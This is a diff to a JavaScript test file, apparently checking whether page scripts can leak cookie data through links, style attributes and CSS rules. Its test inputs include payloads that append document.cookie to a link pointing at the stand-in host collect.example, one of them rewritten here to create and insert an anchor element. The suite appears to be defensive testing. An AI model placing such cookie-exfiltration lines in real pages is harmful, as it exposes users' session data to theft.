@@ -124,7 +124,10 @@ it('a page’s whole address is told where another host is put before it', async
 });
 
 it.each([
-  ['what a link says', "document.querySelector('a').href = `https://collect.example/?a=${document.cookie}`;"],
+  [
+    'what a link says',
+    "const a = document.createElement('a'); a.href = `https://collect.example/?a=${document.cookie}`; document.body.append(a);",
+  ],
   ['a style that asks for nothing', "document.body.setAttribute('style', `--a: ${document.cookie}`);"],
   [
     'the text of a rule',
